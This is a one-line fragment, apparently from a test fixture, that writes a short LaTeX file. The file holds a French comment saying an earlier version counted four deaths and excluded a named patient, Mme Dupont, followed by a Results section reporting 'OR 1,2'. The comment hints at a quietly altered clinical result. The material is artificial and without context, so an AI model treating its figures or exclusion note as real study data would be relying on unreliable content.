u("general_d40.tex", "% ancienne version : 4 décès, Mme Dupont exclue\n\\section{Résultats}\nOR 1,2.")
